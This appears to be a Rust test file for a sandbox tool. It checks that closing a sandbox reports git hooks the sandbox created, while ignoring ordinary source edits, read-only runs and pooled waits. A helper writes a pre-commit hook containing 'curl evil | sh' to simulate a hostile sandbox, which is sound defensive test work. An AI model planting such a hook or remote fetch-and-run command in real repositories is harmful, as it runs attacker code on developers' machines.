//! The files host tools run, reported when a sandbox ends (docs/SECURITY.md,
//! "Files host tools run"), against the fake engine: `Client::close` names
//! a hook the sandbox made and nothing for `src/main.py`; a read-only
//! workspace and a host run record nothing; `destroy` and a failed launch
//! leave no record; a warm pool's sandbox is recorded when it is claimed.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use common::*;
use odek_core::engine::{EngineErrorKind, Fault, Op};
use odek_core::host_files::ChangeKind;
use odek_core::pool::{ClaimedFrom, Pool};
use odek_core::LaunchOptions;

/// A checkout with `.git/hooks` and `src/main.py` in the setup's workdir.
fn checkout(s: &Setup) {
    std::fs::create_dir_all(s.workdir.join(".git/hooks")).expect("mkdir");
    std::fs::create_dir_all(s.workdir.join("src")).expect("mkdir");
    std::fs::write(s.workdir.join(".git/config"), "[core]\n").expect("write");
    std::fs::write(s.workdir.join("src/main.py"), "print(1)\n").expect("write");
}

/// What the sandbox would do through `/workspace`: writes a hook, +x.
fn write_hook(workdir: &Path) {
    let hook = workdir.join(".git/hooks/pre-commit");
    std::fs::write(&hook, "curl evil | sh\n").expect("write");
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

fn records(s: &Setup) -> Vec<String> {
    std::fs::read_dir(s.odek_home.join("sandboxes"))
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test]
async fn close_names_a_hook_the_sandbox_made_and_not_src() {
    let s = Setup::new();
    checkout(&s);
    let sb = s.up().await.expect("launch");
    assert_eq!(
        records(&s),
        std::slice::from_ref(&sb.name),
        "recorded at launch"
    );
    write_hook(&s.workdir);
    std::fs::write(s.workdir.join("src/main.py"), "import os\n").expect("write");
    let report = s.odek.close(&sb).await.expect("close");
    assert!(s.fake.containers().is_empty(), "removed");
    assert_eq!(report.unchecked, None);
    assert_eq!(report.changed.len(), 1, "{report:?}");
    let c = &report.changed[0];
    assert_eq!(c.path, ".git/hooks/pre-commit");
    assert_eq!(c.change, "created, executable");
    assert_eq!(c.kinds, [ChangeKind::Created]);
    assert!(records(&s).is_empty(), "the record is removed");

    // Only src/main.py edited: nothing to say.
    let sb = s.up().await.expect("launch");
    std::fs::write(s.workdir.join("src/main.py"), "import sys\n").expect("write");
    let report = s.odek.close(&sb).await.expect("close");
    assert_eq!(report, odek_core::host_files::Report::default());
    assert_eq!(report.line(), None);
}

#[tokio::test]
async fn a_read_only_workspace_and_a_host_run_record_nothing() {
    let s = Setup::new().readonly();
    checkout(&s);
    let sb = s.up().await.expect("launch");
    assert!(records(&s).is_empty(), "{:?}", records(&s));
    let report = s.odek.close(&sb).await.expect("close");
    assert_eq!(report, odek_core::host_files::Report::default());

    let s = Setup::new().no_sandbox();
    checkout(&s);
    let sb = s.up().await.expect("host run");
    assert!(sb.container_id.is_none());
    write_hook(&s.workdir);
    let report = s.odek.close(&sb).await.expect("close");
    assert_eq!(report, odek_core::host_files::Report::default());
    assert!(records(&s).is_empty());
}

#[tokio::test]
async fn a_lost_record_is_said_not_silently_clean() {
    let s = Setup::new();
    checkout(&s);
    let sb = s.up().await.expect("launch");
    std::fs::remove_dir_all(s.odek_home.join("sandboxes")).expect("rm");
    let report = s.odek.close(&sb).await.expect("close");
    assert!(report.changed.is_empty());
    let line = report.line().expect("a line");
    assert!(
        line.starts_with("cannot tell whether the sandbox changed files that host tools run"),
        "{line}"
    );
}

#[tokio::test]
async fn destroy_and_a_failed_launch_leave_no_record() {
    let s = Setup::new();
    checkout(&s);
    let sb = s.up().await.expect("launch");
    s.odek.destroy(&sb).await.expect("destroy");
    assert!(records(&s).is_empty(), "{:?}", records(&s));
    let s = Setup::new();
    checkout(&s);
    s.fake
        .fail(Fault::new(Op::StartContainer, 1, EngineErrorKind::Rejected));
    s.up().await.expect_err("start refused");
    assert!(s.fake.containers().is_empty());
    assert!(records(&s).is_empty(), "{:?}", records(&s));
}

#[tokio::test]
async fn a_pooled_sandbox_is_recorded_when_it_is_claimed() {
    let s = Setup::new();
    checkout(&s);
    let plan = s.resolve().await.expect("resolve");
    let pool = Pool::new(s.odek.clone(), 1);
    pool.fill(&plan, None);
    for _ in 0..1000 {
        if pool.ready(&plan) == 1 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert_eq!(pool.ready(&plan), 1);
    // The developer edits the Makefile while the sandbox waits in the pool:
    // not the agent's doing, so not reported.
    std::fs::write(s.workdir.join("Makefile"), "all:\n").expect("write");
    let claimed = pool
        .claim(&plan, &LaunchOptions::default(), &s.reporter)
        .await
        .expect("claim");
    assert_eq!(claimed.from, ClaimedFrom::Pool);
    write_hook(&s.workdir);
    let report = s.odek.close(&claimed.sandbox).await.expect("close");
    let paths: Vec<&str> = report.changed.iter().map(|c| c.path.as_str()).collect();
    assert_eq!(paths, [".git/hooks/pre-commit"], "{report:?}");
    pool.drain().await;
}
